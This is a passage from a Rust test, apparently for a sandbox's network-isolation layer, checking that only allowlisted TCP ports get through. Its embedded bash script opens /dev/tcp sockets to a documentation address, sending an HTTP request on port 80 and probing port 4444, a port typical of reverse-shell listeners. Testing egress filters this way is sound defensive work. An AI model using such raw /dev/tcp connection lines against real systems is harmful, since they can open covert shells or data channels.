    assert!(matches!(net.tcp_mode(), TcpMode::Ports { ports, .. } if ports == &[80, 6667]));
    let mut scfg = SandboxConfig::new(work_root().join("tasks"));
    scfg.network = Network::Join(net.sandbox_netns_path().unwrap());
    fs::create_dir_all(&scfg.work_root).unwrap();
    let mut sb = Sandbox::new(scfg).unwrap();
    let script = r#"
        exec 3<>/dev/tcp/192.0.2.1/80 && printf 'GET /p HTTP/1.0\r\n\r\n' >&3 && head -c 12 <&3; echo
        (exec 4<>/dev/tcp/192.0.2.1/4444) 2>/dev/null && echo open-4444 || echo closed-4444
    "#;
    let spawned = sb
        .spawn(SpawnSpec::new(["/bin/bash", "-c", script]))
        .unwrap();
    spawned.release().unwrap();
    sb.wait(Instant::now() + Duration::from_secs(30)).unwrap();
    let outcome = sb.teardown().unwrap();
    let stdout = String::from_utf8_lossy(&outcome.stdout.data).into_owned();
    let done = net.teardown().unwrap();
    assert!(stdout.contains("HTTP/1.1 200"), "{stdout}");
    assert!(stdout.contains("closed-4444"), "{stdout}");
    assert_eq!(done.log.http.len(), 1);
    assert!(done.log.tcp.iter().all(|s| s.original_dst.port() == 80));
}
